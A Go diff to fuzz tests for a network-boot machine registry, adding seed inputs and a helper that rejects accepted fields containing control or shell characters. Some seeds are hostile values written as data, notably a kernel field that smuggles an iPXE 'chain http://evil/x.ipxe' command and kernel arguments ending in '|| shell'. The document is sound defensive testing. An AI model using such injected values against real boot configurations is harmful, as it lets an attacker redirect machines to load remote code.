@@ -6,6 +6,7 @@ import (
 	"regexp"
 	"strings"
 	"testing"
+	"unicode"
 )
 
 var canonicalMAC = regexp.MustCompile(`^[0-9a-f]{2}(:[0-9a-f]{2}){5}$`)
@@ -85,11 +86,20 @@ func FuzzDecode(f *testing.F) {
 	f.Add([]byte("slaves:\n  - ip: 192.168.1.21\n    mac: 00:02:A5:04:3B:66\n  - ip: 192.168.1.9\n    mac: 0002.a504.3b09\n    hostname: n9\n    comment: \"x: y\"\n"))
 	f.Add([]byte("slaves:\n  - ip: 192.168.1.21\n    mac: 00:02:a5:04:3b:66\n    colour: red\n"))
 	f.Add([]byte("{"))
+	f.Add([]byte("slaves:\n  - ip: 192.168.1.22\n    mac: 00:02:a5:04:3b:67\n    kernel: \"6.1.0/vmlinuz\\nchain http://evil/x.ipxe\\n#\"\n"))
+	f.Add([]byte("slaves:\n  - ip: 192.168.1.23\n    mac: 00:02:a5:04:3b:68\n    kernel_args: \"x=${net0/ip} || shell\"\n    boot_server: s1\n"))
+	f.Add([]byte("slaves:\n  - ip: 192.168.1.24\n    mac: ff:ff:ff:ff:ff:ff\n    comment: \"\\e[2J\"\n"))
 	st := Store{Path: "fuzz.yaml", Network: testNet}
 	f.Fuzz(func(t *testing.T, data []byte) {
 		r, err := st.Decode(data)
 		if err != nil {
+			if strings.Contains(err.Error(), "\n") {
+				t.Errorf("multi-line error %q", err)
+			}
 			return
+		}
+		for _, s := range r.Slaves {
+			checkAccepted(t, s)
 		}
 		out, err := Encode(r)
 		if err != nil {
@@ -116,10 +126,28 @@ func FuzzParseImport(f *testing.F) {
 		if err != nil {
 			return
 		}
+		var r Registry
 		for _, l := range lines {
 			if l.Line < 1 {
 				t.Fatalf("line %d for %+v", l.Line, l.Slave)
 			}
+			if r.Add(l.Slave, testNet) == nil {
+				checkAccepted(t, r.Slaves[r.Index(l.Slave.IP)])
+			}
 		}
 	})
+}
+
+// checkAccepted: nothing the registry accepts can break a line of a file it
+// is rendered into, or is an address no card has.
+func checkAccepted(t *testing.T, s Slave) {
+	t.Helper()
+	for _, v := range []string{s.Hostname, s.Kernel, s.KernelArgs, s.BootServer} {
+		if strings.ContainsAny(v, "\x00\t\n\r\v\f$#|&;{}<>'\"\\`") {
+			t.Fatalf("accepted %q in %+v", v, s)
+		}
+	}
+	if strings.ContainsFunc(s.Comment, unicode.IsControl) || CheckUnicastMAC(s.MAC) != nil || CheckHostname(s.Hostname) != nil {
+		t.Fatalf("accepted %+v", s)
+	}
 }
